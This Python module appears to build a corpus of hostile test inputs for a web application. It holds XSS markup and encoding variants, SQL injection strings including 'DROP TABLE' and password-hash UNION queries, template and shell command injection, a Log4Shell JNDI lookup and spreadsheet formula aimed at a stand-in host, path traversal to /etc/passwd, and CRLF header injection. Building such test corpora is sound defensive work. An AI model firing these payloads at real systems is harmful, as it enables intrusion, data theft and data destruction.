"""What attackers type. A short list of ideas, and every way to dress them."""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

# Ideas, each with what would run; `alert` is listened for in a real browser.
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>",
    "<button formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<base href=//kotu.example/>",
    "<meta http-equiv=refresh content=0;url=//kotu.example>",
    "<link rel=stylesheet href=//kotu.example>",
    "<style>*{background:url(//kotu.example)}</style>",
    "<object data=//kotu.example></object>",
    "<embed src=//kotu.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b hx-get=/masa hx-trigger=load>x</b>",
    "<b hx-on:load=alert(1)>x</b>",
    "<b data-hx-on::load=alert(1)>x</b>",
    "<b data-enhance=count>x</b>",
)
# What would end the place the text stands in.
_ENDS = ('">', "'>", "</textarea>", "</title>", "</option></select>", "-->", "]]>", '" onmouseover=alert(1) x="')
_BARE = (
    "javascript:alert(1)",
    "' onfocus='alert(1)' autofocus x='",
    '" onfocus="alert(1)" autofocus x="',
    "`-alert(1)-`",
    "{{ 7*7 }}{% raw %}",
    "${alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
)


def markup() -> list[str]:
    """More than two hundred texts that try to become more than text."""
    found: list[str] = [*_BARE, *_MARKUP]
    for number, each in enumerate(_MARKUP):
        found += [f"{end}{each}" for end in _ENDS]
        found += [each.upper(), each.replace("<", "<\x0b", 1), quote(each), escape(each)]
        found.append(each.replace(" ", "/**/" if number % 2 else "\t"))
    return list(dict.fromkeys(found))


def grouped(texts: list[str], most: int) -> Iterator[list[str]]:
    """The texts in groups that fit together, with a space between, into so many letters."""
    group: list[str] = []
    for each in texts:
        if group and len(" ".join([*group, each])) > most:
            yield group
            group = []
        group.append(each)
    if group:
        yield group


INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE cases; --",
    '" OR ""="',
    "1) OR (1=1",
    "1 UNION SELECT password_hash FROM clerk--",
    "' AND (SELECT 1 FROM pg_sleep(3))--",
    "1; SELECT pg_sleep(3)",
    "randomblob(1000000000)",
    "%",
    "%%%%",
    "_",
    "______",
    "\\",
    "%' ESCAPE '!",
    "a* OR b",
    'NEAR("a" "b", 5)',
    '"',
    "a:b",
    "title:^x",
    "* - ( ) \" ' : ^",
    "!&|<->:*",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{0.__class__.__mro__}",
    "%(secret)s",
    "%s%s%s%n",
    "${jndi:ldap://kotu.example/a}",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "\r\nSet-Cookie: masa=kotu",
    "\r\nBcc: kotu@ornek.com",
    "\r\n\r\n<html>",
    "\n2026-01-01 level=error event=sahte",
    "\x1b[31mkirmizi\x1b[0m",
    "a\x00b",
    "\x00",
    "\ud800",
    "\udfff\ud800",
    "\u202ekotu\u202c",
    "\u200b\u200b\u200b",
    "\ufeffa",
    "\U0001f600" * 20,
    "\U00020000",
    "İ" * 2000,
    "ıIİi" * 500,
    "I\u0307" * 500,
    "ﬃ" * 300,
    "a\u0301" * 500,
    "e" + "\u0301" * 500,
    "9" * 400,
    "-1",
    "0x10",
    "1e309",
    "NaN",
    "Infinity",
    "٣٤٥",
    "１２３",
    "null",
    "undefined",
    "[]",
    '{"a":1}',
    '=HYPERLINK("http://kotu.example")',
    "+1+1",
    "@SUM(1)",
    "true",
    " " * 500,
    "\t\n\r",
    "A" * 20_000,
)
